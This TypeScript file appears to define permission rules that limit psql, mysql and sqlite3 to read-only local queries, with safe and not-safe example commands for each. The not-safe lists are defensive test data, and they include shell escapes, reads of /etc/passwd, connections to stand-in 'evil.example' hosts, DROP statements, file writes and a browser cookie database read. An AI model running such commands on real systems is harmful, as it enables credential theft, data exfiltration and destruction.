import type { Tool } from "./tool.ts";

/** sqlite3 takes each of its options with one dash or two. */
function withBothDashes(options: string): string {
  return options
    .split(" ")
    .flatMap((option) => [`-${option}`, `--${option}`])
    .join(" ");
}

const LOCAL_HOSTS = "localhost|127.0.0.1|::1|/var/run/postgresql|/tmp";

/**
 * Clients of databases, given SQL that only looks. They ask with the login that they have, but not any machine: a name sent
 * to another one can carry data.
 */
export const DATABASE_TOOLS: readonly Tool[] = [
  {
    names: ["psql"],
    // Not -f, -o, -L: they run and write files. Not -v but for settings of its own.
    options: `-0 -1 -a -A -b -c! -d: -e -E -F: -h=${LOCAL_HOSTS} -H -l -n -p# -P=pager=off|format=*|border=*|null=*|footer*|expanded*|columns=*|tuples_only* -q -R: -t -T: -U: -v=ON_ERROR_STOP=*|VERBOSITY=* -w -x -X -z --command! --csv --dbname: --echo-all --echo-hidden --echo-queries --expanded --field-separator: --host=${LOCAL_HOSTS} --html --list --no-align --no-password --no-psqlrc --port# --pset=pager=off|format=*|border=*|null=*|footer*|expanded*|columns=*|tuples_only* --quiet --record-separator: --single-transaction --tuples-only --username: --variable=ON_ERROR_STOP=*|VERBOSITY=*`,
    operands: "text",
    maxOperands: 2,
    language: "psql",
    requires: ["-c", "--command", "-l", "--list"],
    service: true,
    // Connection strings may name any machine, and files.
    refuses:
      "^(?:-d|--dbname=)?\\s*(?:(?!(?:pager|format|border|null|footer|expanded|columns|tuples_only)=)[a-z_]+\\s*=|postgres(?:ql)?://(?!(?:[^/@?#]*@)?(?:localhost|127\\.0\\.0\\.1)?(?::\\d+)?(?:/[\\w.-]*)?$))",
    examples: {
      safe: [
        "psql -c 'SELECT count(*) FROM users' appdb",
        "psql -U app -d appdb -tAc \"SELECT id FROM users WHERE name = 'x'\"",
        "psql -h localhost -p 5432 -l",
        "psql postgresql://app@localhost:5432/appdb -c '\\dt'",
        "psql -X -P pager=off -c 'SELECT 1' -c '\\d users'",
      ],
      notSafe: [
        "psql -c 'DROP TABLE users' appdb",
        'psql -c "UPDATE users SET seen=true WHERE id=1"',
        "psql -c '\\! sh'",
        "psql -c 'SELECT 1' -o out",
        "psql -f x.sql",
        "psql appdb",
        "psql -h db.evil.example -c 'SELECT 1'",
        "psql -c 'SELECT 1' 'host=evil.example'",
        "psql -c 'SELECT 1' -d 'dbname=a host=evil.example'",
        "psql -c 'SELECT 1' postgresql://u:p@evil.example/db",
        "psql -c 'SELECT 1' 'postgresql:///db?host=evil.example'",
        'psql -c "$sql" appdb',
        "psql -c 'SELECT pg_read_file($$/etc/passwd$$)'",
        "psql -v x=y -c 'SELECT 1'",
      ],
    },
  },
  {
    names: ["mysql", "mariadb"],
    // Not another machine, which may ask for any file of this one. Not --init-command, --pager, --tee, --defaults-file.
    options:
      "-A -B -D: -e! -E -h=localhost|127.0.0.1 -H -N -p? -P# -r -s -t -u: -X --batch --database: --execute! --host=localhost|127.0.0.1 --html --password? --port# --raw --silent --skip-column-names --table --user: --vertical --xml",
    operands: "text",
    maxOperands: 1,
    language: "mysql",
    requires: ["-e", "--execute"],
    service: true,
    examples: {
      safe: [
        "mysql -e 'SHOW TABLES' appdb",
        "mysql -u root -h 127.0.0.1 -Ne 'SELECT count(*) FROM users' appdb",
        "mariadb -e 'SHOW PROCESSLIST\\G'",
      ],
      notSafe: [
        'mysql -e "DROP DATABASE prod"',
        "mysql -e 'system id'",
        "mysql -e '\\! id'",
        "mysql appdb",
        "mysql -h db.evil.example -e 'SELECT 1'",
        "mysql --init-command='DROP TABLE t' -e 'SELECT 1'",
        "mysql -e \"SELECT 'a' INTO OUTFILE '/tmp/x'\"",
        "mysql -e 'SELECT * FROM mysql.user'",
      ],
    },
  },
  {
    names: ["sqlite3"],
    // Without -readonly it may create the file, or write back what another process left.
    options: withBothDashes(
      "ascii bail batch box cmd! column csv echo header html json line list markdown newline: noheader nofollow nullvalue: quote readonly safe separator: stats table tabs",
    ),
    operands: "database",
    minOperands: 2,
    language: "sqlite",
    clusters: "none",
    requires: ["-readonly", "--readonly"],
    // It puts two files beside a database that others write to at the same time.
    reliesOnJail: "data",
    // As an address it could lead anywhere.
    avoids: "^file:",
    examples: {
      safe: [
        "sqlite3 -readonly app.db '.tables'",
        "sqlite3 -readonly -header -csv app.db 'SELECT * FROM users LIMIT 5'",
        "sqlite3 --readonly app.db '.headers on' 'PRAGMA table_info(users)'",
        "sqlite3 -readonly -cmd '.mode box' app.db 'SELECT 1'",
        "sqlite3 app.db -readonly .schema",
      ],
      notSafe: [
        "sqlite3 app.db '.tables'",
        "sqlite3 -readonly app.db",
        "sqlite3 -readonly app.db '.shell id'",
        "sqlite3 -readonly app.db 'SELECT 1' '.output x'",
        "sqlite3 -readonly -cmd '.shell id' app.db 'SELECT 1'",
        "sqlite3 -readonly -init x app.db 'SELECT 1'",
        "sqlite3 -readonly 'file:/etc/x?mode=ro' 'SELECT 1'",
        "sqlite3 -readonly app.db \"SELECT readfile('/etc/passwd')\"",
        'sqlite3 -readonly app.db "$sql"',
        "sqlite3 -readonly ~/.mozilla/firefox/x/cookies.sqlite 'SELECT 1'",
        "sqlite3 app.db 'DROP TABLE users'",
      ],
    },
  },
];
